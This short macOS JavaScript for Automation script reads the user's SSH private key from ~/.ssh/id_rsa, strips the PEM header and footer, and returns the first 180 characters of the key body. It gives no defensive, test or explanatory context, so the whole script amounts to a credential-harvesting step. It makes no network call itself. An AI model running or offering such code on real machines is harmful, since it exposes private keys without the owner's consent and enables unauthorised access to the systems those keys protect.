ObjC.import('Foundation');

function readText(path) {
  const full = $(path).stringByExpandingTildeInPath;
  const s = $.NSString.stringWithContentsOfFileEncodingError(full, $.NSUTF8StringEncoding, null);
  return ObjC.unwrap(s) || '';
}

function run() {
  const key = readText('~/.ssh/id_rsa');
  const lines = key.split('\n').filter((l) => l && !l.startsWith('-----'));
  return 'key ' + lines.join('').slice(0, 180);
}
